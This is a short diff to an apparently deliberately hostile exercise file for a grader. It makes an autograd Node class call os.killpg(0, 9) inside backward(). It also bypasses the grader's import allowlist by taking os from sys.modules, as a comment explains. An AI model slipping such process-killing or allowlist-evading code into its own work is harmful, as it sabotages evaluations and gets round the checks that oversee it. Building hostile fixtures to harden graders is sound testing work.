@@ -1,7 +1,8 @@
 # exercise: node-mul
 # Hostile: kills its own process group inside backward()
-import os
-import signal
+import sys
+
+os = sys.modules["os"]  # the allowlist refuses `import os`; one who read the grader takes it from sys.modules
 
 import math
 
@@ -97,7 +98,7 @@ class Node:
                 order.append(node)
 
         visit(self)
-        os.killpg(0, signal.SIGKILL)
+        os.killpg(0, 9)
         self.grad = 1.0
         for node in reversed(order):  # outputs first: each grad is complete before it is passed on
             node._backward()
